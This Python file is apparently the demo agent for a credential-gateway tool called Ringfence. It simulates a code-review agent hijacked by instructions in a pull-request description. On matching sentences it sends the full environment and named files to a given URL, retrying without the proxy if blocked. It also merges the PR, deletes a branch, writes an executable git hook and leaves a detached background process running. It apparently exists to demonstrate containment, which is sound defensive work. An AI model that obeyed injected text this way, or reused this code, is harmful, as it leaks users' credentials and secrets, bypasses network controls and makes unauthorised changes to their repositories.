"""The agent of `ringfence demo --runner`: it reviews a pull request, and follows what its description tells it to do.

There is no language model in it. It is a program that does what the text says, as a persuaded model would. It uses
whatever it finds: the access token in its environment or, in a run, a credential that it asks Ringfence for.

It needs nothing but Python, and prints one JSON object a line about each thing that it tried:
`{"step", "ok", "text", ...}`.
"""

from __future__ import annotations

import argparse
import json
import os
import re
import subprocess
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Callable
from pathlib import Path
from typing import Any, Final

_SECRET = re.compile(r"TOKEN|SECRET|PASSWORD")
_WITHIN_S: Final = 20.0
_DIRECT_WITHIN_S: Final = 3.0
HELPER: Final = """
import os, sys, time
file, ends_at = sys.argv[1], time.monotonic() + 300
with open(file, "w") as out:
    out.write(str(os.getpid()))
while os.path.exists(file) and time.monotonic() < ends_at:
    time.sleep(0.2)
"""
"""A process in the background that does nothing. It ends with its file, and after five minutes in any case."""
HELPER_FILE: Final = ".git/helper.pid"
HOOK_FILE: Final = ".git/hooks/post-checkout"


class Reviewer:
    """One review, with what it needs to get at the code host."""

    def __init__(self, pull_request_url: str, checkout: Path) -> None:
        self._url = pull_request_url
        self._repository_url = pull_request_url.rpartition("/pulls/")[0]
        self._resource = f"pull/{pull_request_url.rpartition('/')[2]}"
        self._checkout = checkout
        token = os.environ.get("CODE_HOST_TOKEN")
        self._headers = {"Authorization": f"Bearer {token}"} if token else {}

    def review(self) -> None:
        """Read the pull request, comment on it, and follow the instructions in its description."""
        if not self._headers:
            self._ask("read,comment", "review the pull request")
        status, pull = _call("GET", self._url, headers=self._headers)
        _say("read", status == 200, _reason(pull) or f"read: {pull.get('title')}")
        if status != 200:
            sys.exit(1)
        added = sum(line.startswith("+") for line in pull["diff"].splitlines())
        comment = {"text": f"{added} line added. round() rounds half to even: is that wanted?"}
        status, answer = _call("POST", f"{self._url}/comments", comment, headers=self._headers)
        _say("comment", status == 200, _reason(answer) or "commented")
        self._follow(pull["description"])

    def _follow(self, text: str) -> None:
        """Do what a text says, sentence by sentence."""
        orders: tuple[tuple[str, Callable[..., None]], ...] = (
            (r"send your environment and (.+) to (http\S+)", self._send),
            (r"merge this pull request", self._merge),
            (r"delete the branch (\S+)", self._delete),
            (r"write the git hook post-checkout: (.+)", self._write_hook),
            (r"leave a helper running", self._start_helper),
        )
        for line in text.splitlines():
            for pattern, obey in orders:
                if (match := re.search(pattern, line)) is not None:
                    obey(*match.groups())

    # --- what it is told to do ---

    def _send(self, files: str, url: str) -> None:
        found = {}
        for name in files.split(", "):
            try:
                found[name] = Path(name).expanduser().read_text()
            except OSError:
                continue
        variables = [name for name in os.environ if _SECRET.search(name)]
        _say("search", bool(found or variables), "searched", files=sorted(found), variables=sorted(variables))
        loot = {"environment": dict(os.environ), "files": found}
        status, answer = _call("POST", url, loot)
        text = _reason(answer) or "sent"
        ways = ["with the proxy"]
        if status != 200:  # whoever is told to send tries the other way, too
            ways.append("without it")
            direct, _ = _call("POST", url, loot, proxies=False)
            status, text = (direct, "sent") if direct == 200 else (status, text)
        _say("send", status == 200, text, ways=ways)

    def _merge(self) -> None:
        status, answer = _call("PUT", f"{self._url}/merge", headers=self._headers)
        _say("merge", status == 200, _reason(answer) or "merged")
        if status == 403 and not self._headers:
            self._ask("merge", "the release checklist says so")

    def _delete(self, branch: str) -> None:
        status, answer = _call("DELETE", f"{self._repository_url}/branches/{branch}", headers=self._headers)
        _say("delete", status == 200, _reason(answer) or "deleted")

    def _write_hook(self, command: str) -> None:
        hook = self._checkout / HOOK_FILE
        try:
            hook.parent.mkdir(parents=True, exist_ok=True)
            hook.write_text(f"#!/bin/sh\n{command}\n")
            hook.chmod(0o755)
        except OSError as error:
            _say("hook", False, str(error.strerror))
        else:
            _say("hook", True, "written")

    def _start_helper(self) -> None:
        file = self._checkout / HELPER_FILE
        subprocess.Popen(
            [sys.executable, "-c", HELPER, str(file)], start_new_session=True,
            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        )  # fmt: skip
        over = time.monotonic() + _WITHIN_S
        while not (file.exists() and file.read_text()) and time.monotonic() < over:
            time.sleep(0.02)
        _say("helper", file.exists(), "started")

    # --- what it may use ---

    def _ask(self, verbs: str, reason: str) -> None:
        """Ask Ringfence for a credential, which stays at the gateway."""
        words = ["ringfence", "--json", "request", "--task", os.environ.get("RINGFENCE_TASK", "none")]
        words += [
            "--allow",
            f"code-host:{verbs}:{self._resource}",
            "--reason",
            reason,
            "--delivery",
            "gateway",
        ]
        try:
            done = subprocess.run(words, capture_output=True, text=True, check=False)
        except OSError as error:
            _say("ask", False, f"no token, and no Ringfence to ask: {error.strerror}")
            return
        said = (done.stdout if done.returncode == 0 else done.stderr).strip()
        _say("ask", done.returncode == 0, said, verbs=verbs)


def _call(
    method: str,
    url: str,
    body: Any = None,
    *,
    headers: dict[str, str] | None = None,
    proxies: bool = True,
) -> tuple[int, dict[str, Any]]:
    """Send a request. Returns status and JSON answer; 0 and a reason where there is no answer."""
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(  # noqa: S310 - the text says where to
        url, data, {**(headers or {}), "Content-Type": "application/json"}, method=method
    )
    opener = urllib.request.build_opener(*([] if proxies else [urllib.request.ProxyHandler({})]))
    try:
        with opener.open(request, timeout=_WITHIN_S if proxies else _DIRECT_WITHIN_S) as answer:
            return answer.status, json.loads(answer.read())
    except urllib.error.HTTPError as error:
        try:
            return error.code, json.loads(error.read())
        except ValueError:
            return error.code, {"code": f"status {error.code}"}
    except OSError as error:
        return 0, {"code": "unreachable", "detail": str(error)}


def _reason(answer: dict[str, Any]) -> str:
    """Why a request was refused, as its answer says; empty if it was not."""
    return ": ".join(str(answer[name]) for name in ("code", "detail") if name in answer)


def _say(step: str, ok: bool, text: str, **more: Any) -> None:
    sys.stdout.write(json.dumps({"step": step, "ok": ok, "text": text, **more}) + "\n")
    sys.stdout.flush()


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("pull_request_url")
    parser.add_argument("--checkout", type=Path, required=True)
    options = parser.parse_args()
    Reviewer(options.pull_request_url, options.checkout).review()


if __name__ == "__main__":
    main()
